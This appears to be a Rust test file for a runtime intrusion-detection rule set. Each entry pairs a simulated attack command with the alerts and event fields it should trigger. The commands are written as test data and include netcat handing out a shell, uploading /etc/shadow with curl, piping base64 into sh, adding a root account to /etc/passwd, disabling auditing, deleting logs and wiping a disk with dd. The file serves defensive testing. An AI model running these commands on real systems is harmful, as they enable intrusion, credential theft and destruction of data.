//! Attacks that only rules of ours report.

use super::LOGINS;
use crate::attack::{Attack, attack};

pub fn attacks() -> Vec<Attack> {
    let mut all = credentials();
    all.extend(execution());
    all.extend(persistence());
    all.extend(privileges());
    all.extend(evasion());
    all.extend(networks());
    all.extend(impact());
    all
}

fn credentials() -> Vec<Attack> {
    vec![
        attack("key", "cat /etc/ssh/ssh_host_rsa_key; $F/ssh read /root/.ssh/id_rsa").raises(
            &[],
            &["SSH private key read"],
            &[("fd.name", "/etc/ssh/ssh_host_rsa_key"), ("proc.name", "cat")],
        ),
        attack("memory-of-another", "$A peer-into mem").raises(
            &[],
            &["Memory of another process read"],
            &[("fd.name", "/proc/*/mem"), ("proc.cmdline", "actor peer-into mem")],
        ),
        attack("environment-of-another", "$A peer-into environ").raises(
            &[],
            &["Environment of another process read"],
            &[("fd.name", "/proc/*/environ")],
        ),
        attack("own-environment", "cat /proc/self/environ >/dev/null; $A peer-into status"),
        attack("upload", "$F/curl -T /etc/shadow http://127.0.0.1/").raises(
            &[],
            &["Secrets named in an upload"],
            &[("proc.cmdline", "curl -T /etc/shadow http://127.0.0.1/")],
        ),
    ]
}

fn execution() -> Vec<Attack> {
    vec![
        attack("reverse-shell", "$A reverse-shell 14445")
            .raises(
                &[],
                &["Standard stream moved onto a network connection"],
                &[
                    ("evt.type", "dup2"),
                    ("evt.rawres", "0"),
                    ("fd.name", "127.0.0.1:*->127.0.0.1:14445"),
                    ("fd.sip", "127.0.0.1"),
                    ("fd.type", "ipv4"),
                ],
            )
            .raises(
                &[],
                &["Standard stream moved onto a network connection"],
                &[("evt.rawres", "1"), ("proc.cmdline", "actor reverse-shell 14445")],
            )
            .raises(
                &[],
                &["Shell on a network connection"],
                &[("proc.name", "sh"), ("proc.stdin.name", "127.0.0.1:*->127.0.0.1:14445")],
            ),
        attack("connection-aside", "$A aside 14446"),
        attack("netcat", "$F/ncat -e /bin/sh 127.0.0.1 9; $F/ncat -z 127.0.0.1 9").raises(
            &[],
            &["Netcat hands a program to the network"],
            &[("proc.args", "-e /bin/sh 127.0.0.1 9")],
        ),
        attack("shell-connects", "$F/zsh dial 203.0.113.7 14447; $F/zsh dial 127.0.0.1 14448")
            .raises(
                &[],
                &["Shell opened a network connection"],
                &[("fd.name", "*->203.0.113.7:14447"), ("fd.sip", "203.0.113.7")],
            ),
        attack("encoded", "sh -c 'echo dHJ1ZQ== | base64 -d | sh'").raises(
            &[],
            &["Encoded or downloaded script piped into a shell"],
            &[("proc.cmdline", "sh -c echo dHJ1ZQ== | base64 -d | sh")],
        ),
        attack("scratch-by-service", "cp $A /tmp/x; $F/nginx spawn /tmp/x nothing; /tmp/x nothing")
            .raises(
                &[],
                &["Service runs a program from a scratch directory"],
                &[("proc.exepath", "/tmp/x"), ("proc.pname", "nginx")],
            ),
        attack("service-account", "$A as 33 terminal spawn /bin/sh -c true")
            .spoiled_by(LOGINS)
            .raises(
                &[],
                &["Service account at a terminal"],
                &[("user.uid", "33"), ("user.name", "www-data"), ("proc.tty", "348*")],
            ),
        attack("attack-tool", "$F/linpeas").raises(
            &[],
            &["Attack tool run"],
            &[("proc.name", "linpeas"), ("proc.args", "")],
        ),
        attack("miner", "$F/xmrig").raises(
            &[],
            &["Cryptocurrency miner run"],
            &[("proc.name", "xmrig")],
        ),
    ]
}

fn persistence() -> Vec<Attack> {
    vec![
        attack("preload-all", "echo >/etc/ld.so.preload").raises(
            &[],
            &["Library preloaded into every program"],
            &[("fd.name", "/etc/ld.so.preload")],
        ),
        attack("preload-one", "LD_PRELOAD=/tmp/none.so $A nothing").raises(
            &[],
            &["Library preloaded from a scratch directory"],
            &[("proc.env[LD_PRELOAD]", "/tmp/none.so")],
        ),
        attack("library-of-service", "cp $A /tmp/x.so; $F/nginx read /tmp/x.so; $A read /tmp/x.so")
            .raises(
                &[],
                &["Library from a scratch directory loaded by a service"],
                &[("fd.name", "/tmp/x.so"), ("proc.name", "nginx")],
            ),
        attack("login-keys", "echo key >>/root/.ssh/authorized_keys").raises(
            &[],
            &["Login keys of an account changed"],
            &[("fd.name", "/root/.ssh/authorized_keys")],
        ),
        attack("account", "echo 'eve:x:0:0::/:/bin/sh' >>/etc/passwd").raises(
            &[],
            &["Account files changed directly"],
            &[("fd.name", "/etc/passwd"), ("proc.name", "sh")],
        ),
        attack("useradd", "$F/useradd -o -u 0 eve; $F/useradd alice").raises(
            &[],
            &["Privileged account made"],
            &[("proc.cmdline", "useradd -o -u 0 eve")],
        ),
        attack("login-module", "echo x >>/etc/pam.d/login").raises(
            &[],
            &["Login module changed"],
            &[("fd.name", "/etc/pam.d/login")],
        ),
        attack(
            "web-script",
            "$F/nginx write /srv/app/public/up.php; $F/nginx write /srv/app/cache/page.php",
        )
        .raises(
            &[],
            &["Web script written by a web server"],
            &[("fd.name", "/srv/app/public/up.php")],
        ),
        attack("system-program", "echo >/usr/libexec/helper; echo >/usr/local/bin/mine").raises(
            &[],
            &["System program changed"],
            &[("fd.name", "/usr/libexec/helper")],
        ),
        attack("cron", "echo '* * * * * root true' >/etc/cron.d/job").raises(
            &[],
            &["Scheduled job changed"],
            &[("fd.name", "/etc/cron.d/job")],
        ),
        attack("cron-created", "$A create /etc/cron.d/job").raises(
            &[],
            &["Scheduled job changed"],
            &[("evt.type", "creat"), ("fd.name", "/etc/cron.d/job")],
        ),
        attack("crontab", "$F/crontab -; $F/crontab -l").raises(
            &[],
            &["Crontab replaced by a program"],
            &[("proc.cmdline", "crontab -")],
        ),
        attack(
            "unit",
            "echo >/etc/systemd/system/x.service; mv /etc/systemd/system/x.service /tmp",
        )
        .raises(
            &[],
            &["Systemd unit changed"],
            &[("fd.name", "/etc/systemd/system/x.service")],
        ),
        attack("start-script", "echo >/etc/init.d/x").raises(
            &[],
            &["Start script changed"],
            &[("fd.name", "/etc/init.d/x")],
        ),
        attack("device-rule", "echo >/etc/udev/rules.d/x.rules").raises(
            &[],
            &["Device rule changed"],
            &[("fd.name", "/etc/udev/rules.d/x.rules")],
        ),
        attack("hook", "echo >/etc/x; mv /etc/x /etc/update-motd.d/x").raises(
            &[],
            &["Hook of the system changed"],
            &[("evt.type", "rename*"), ("fs.path.target", "/etc/update-motd.d/x")],
        ),
        attack("package-source", "echo >/etc/apt/sources.list.d/x.list").raises(
            &[],
            &["Source of packages changed"],
            &[("fd.name", "/etc/apt/sources.list.d/x.list")],
        ),
        attack("profile", "echo >>/root/.bashrc").raises(
            &[],
            &["Shell start-up file changed"],
            &[("fd.name", "/root/.bashrc")],
        ),
    ]
}

fn privileges() -> Vec<Attack> {
    vec![
        attack("exploit", "$F/sudoedit -s '\\'; $F/sudoedit /etc/hosts").raises(
            &[],
            &["Local exploit attempted"],
            &[("proc.name", "sudoedit"), ("proc.args", "-s \\")],
        ),
        attack("exploit-without-arguments", "$A session 1000 become $F/pkexec").raises(
            &[],
            &["Local exploit attempted"],
            &[("proc.name", "pkexec"), ("proc.cmdnargs", "0"), ("user.loginuid", "1000")],
        ),
        attack("be-root", "$A session 1000 become $A be-root").spoiled_by(LOGINS).raises(
            &[],
            &["Root identity taken by an unknown program"],
            &[("evt.type", "setresuid"), ("user.loginuid", "1000")],
        ),
        attack("be-root-again", "$A be-root").spoiled_by(LOGINS),
        attack("setuid", "cp $A /tmp/x; chmod u+s /tmp/x; chmod 755 /tmp/x").raises(
            &[],
            &["Program made setuid"],
            &[
                ("evt.type", "fchmodat"),
                ("evt.arg.mode", "*S_ISUID*"),
                ("evt.arg.filename", "/tmp/x"),
                ("proc.cmdline", "chmod u+s /tmp/x"),
            ],
        ),
        attack("capabilities", "$F/setcap cap_setuid+ep /tmp/x; $F/setcap -v cap_setuid+ep /tmp/x")
            .raises(
                &[],
                &["Capabilities given to a file"],
                &[("proc.cmdline", "setcap cap_setuid+ep /tmp/x")],
            ),
        attack("shell-out-of-editor", "$F/sudo spawn $F/vim terminal spawn /bin/sh").raises(
            &[],
            &["Shell out of a program run as root"],
            &[("proc.name", "sh"), ("proc.pname", "vim"), ("proc.aname[3]", "sudo")],
        ),
        attack("rights", "echo >/etc/sudoers.d/x").raises(
            &[],
            &["Rights to become root changed"],
            &[("fd.name", "/etc/sudoers.d/x")],
        ),
        attack("own-users", "$A as 65534 own-users").raises(
            &[],
            &["User namespace made"],
            &[("user.uid", "65534"), ("evt.arg.flags", "CLONE_NEWUSER")],
        ),
        attack("own-users-as-root", "$A own-users; $A own-names"),
        attack("own-faults", "$A as 65534 own-faults").raises(
            &[],
            &["Page faults handled by an ordinary user"],
            &[("evt.type", "userfaultfd"), ("user.uid", "65534")],
        ),
        attack("own-faults-as-root", "$A own-faults"),
    ]
}

fn evasion() -> Vec<Attack> {
    vec![
        attack("inject", "$A inject").raises(
            &[],
            &["Code written into another process"],
            &[("evt.type", "process_vm_writev"), ("evt.rawres", "8")],
        ),
        attack("load-bpf", "$A load-bpf").raises(
            &[],
            &["Kernel program loaded by an unknown program"],
            &[("evt.type", "bpf"), ("evt.arg.cmd", "BPF_PROG_LOAD")],
        ),
        attack("boot", "echo >/boot/initrd.img").raises(
            &[],
            &["Boot files changed"],
            &[("fd.name", "/boot/initrd.img")],
        ),
        attack("audit-off", "$F/auditctl -e 0; $F/auditctl -s").raises(
            &[],
            &["Security service stopped"],
            &[("proc.cmdline", "auditctl -e 0")],
        ),
        attack("audit-rules", "echo >/etc/audit/x.rules").raises(
            &[],
            &["Security configuration changed"],
            &[("fd.name", "/etc/audit/x.rules")],
        ),
        attack("remove-log", "rm /var/log/syslog; rm /var/log/app.log").raises(
            &[],
            &["Log cleared"],
            &[("evt.type", "unlinkat"), ("fs.path.name", "/var/log/syslog")],
        ),
        attack("move-log", "mv /var/log/syslog /var/log/old").raises(
            &[],
            &["Log cleared"],
            &[("evt.type", "rename*"), ("fs.path.source", "/var/log/syslog")],
        ),
        attack("history", "rm /root/.bash_history").raises(
            &[],
            &["Shell history removed"],
            &[("fs.path.name", "/root/.bash_history")],
        ),
        attack("no-history", "HISTFILE=/dev/null $A terminal spawn /bin/sh -c true").raises(
            &[],
            &["Shell started without a history"],
            &[("proc.name", "sh"), ("proc.env[HISTFILE]", "/dev/null"), ("proc.tty", "348*")],
        ),
        attack("time-stamp", "$F/touch -r /bin/sh /etc/cron.d/x; $F/touch /etc/cron.d/x").raises(
            &[],
            &["Time stamp of a file forged"],
            &[("proc.args", "-r /bin/sh /etc/cron.d/x")],
        ),
        attack("kernel-thread", "$A pose '[kworker/0:1]' $A nothing").raises(
            &[],
            &["Program posing as a kernel thread"],
            &[("proc.exe", "[kworker/0:1]"), ("proc.exepath", "/opt/live/actor")],
        ),
        attack("hidden", "$F/.hidden").raises(
            &[],
            &["Hidden program run"],
            &[("proc.name", ".hidden"), ("proc.exepath", "/opt/live/.hidden")],
        ),
        attack("below-dev", "echo >/dev/.cache; echo >/dev/shm/cache").raises(
            &[],
            &["Ordinary file made below /dev"],
            &[("fd.name", "/dev/.cache")],
        ),
        attack("forget-self", "cp $A /srv/x; /srv/x forget-self").raises(
            &[],
            &["Program removed its own file"],
            &[("fs.path.name", "/srv/x"), ("proc.exepath", "/srv/x")],
        ),
    ]
}

fn networks() -> Vec<Attack> {
    vec![
        attack("scanner", "$F/nmap").raises(
            &[],
            &["Network scanner run"],
            &[("proc.name", "nmap")],
        ),
        attack("login-by-server", "$F/nginx spawn $F/ssh other; $F/ssh other").raises(
            &[],
            &["Remote login started by a server"],
            &[("proc.name", "ssh"), ("proc.pname", "nginx")],
        ),
        attack("tunnel", "$F/chisel").raises(
            &[],
            &["Tunnelling tool run"],
            &[("proc.name", "chisel")],
        ),
        attack("download", "$F/nginx spawn $F/curl -o /tmp/x http://127.0.0.1/").raises(
            &[],
            &[
                "Tool of an intruder started below a web server",
                "File downloaded into a scratch directory",
            ],
            &[("proc.cmdline", "curl -o /tmp/x http://127.0.0.1/")],
        ),
        attack("metadata", "$F/nginx dial 169.254.169.254 80; $A dial 169.254.169.254 80").raises(
            &[],
            &["Metadata service of the cloud called"],
            &[("fd.sip", "169.254.169.254"), ("fd.sport", "80"), ("proc.name", "nginx")],
        ),
        attack("offline-program", "$F/sleep dial 203.0.113.7 14449").raises(
            &[],
            &["Program that needs no network connected"],
            &[("proc.name", "sleep"), ("fd.name", "*->203.0.113.7:14449")],
        ),
        attack(
            "database-calls",
            "$F/postgres dial 203.0.113.7 14450; $F/postgres dial 127.0.0.1 14450",
        )
        .raises(
            &[],
            &["Database connected to the internet"],
            &[("fd.name", "*->203.0.113.7:14450")],
        ),
        attack(
            "scratch-calls",
            "cp $A /tmp/x; /tmp/x dial 203.0.113.7 14451; /tmp/x dial 127.0.0.1 14451",
        )
        .raises(
            &[],
            &["Connection by a program in a scratch directory"],
            &[("fd.sport", "14451"), ("fd.sip", "203.0.113.7"), ("proc.exepath", "/tmp/x")],
        ),
        attack("pool", "$A dial 203.0.113.7 3333").raises(
            &[],
            &["Connection to a mining pool"],
            &[("fd.sport", "3333")],
        ),
    ]
}

fn impact() -> Vec<Attack> {
    vec![
        attack("disk", "$F/dd if=/dev/zero of=/dev/sda; $F/dd if=/dev/zero of=/tmp/disk").raises(
            &[],
            &["Disk wiped"],
            &[("proc.args", "if=/dev/zero of=/dev/sda")],
        ),
        attack("delete", "$F/rm -rf /srv; $F/rm -rf /srv/app/cache").raises(
            &[],
            &["Bulk deletion of data"],
            &[("proc.args", "-rf /srv")],
        ),
        attack("ransom", "echo >/srv/a; mv /srv/a /srv/a.locked; mv /srv/a.locked /srv/b").raises(
            &[],
            &["File renamed as ransomware does"],
            &[("fs.path.source", "/srv/a"), ("fs.path.target", "/srv/a.locked")],
        ),
    ]
}
